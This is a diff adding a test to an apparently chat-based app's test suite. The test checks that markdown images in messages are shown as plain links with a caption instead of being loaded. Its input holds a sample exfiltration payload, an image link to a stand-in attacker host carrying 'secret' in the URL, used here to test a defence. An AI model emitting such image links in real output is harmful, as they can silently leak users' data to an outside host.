@@ -159,3 +159,14 @@ def test_an_admin_unlocks_an_account_from_the_admin_page(
     app.button(key="admin-unlock").click().run()
     assert any("can sign in again" in s.value for s in app.success)
     assert app_services.accounts.authenticate(username=user.username, password=PASSWORD, client="x")
+
+
+def test_images_in_messages_are_drawn_as_links_with_a_note(
+    signed_in: Callable[..., AppTest],
+) -> None:
+    app = signed_in()
+    app.chat_input[0].set_value("see ![x](https://evil.example/?d=secret) here").run()
+    shown = [m.value for m in app.markdown]
+    assert any("(https://evil.example/?d=secret)" in value for value in shown)
+    assert not any("![" in value for value in shown)
+    assert any("shown as links" in caption.value for caption in app.caption)
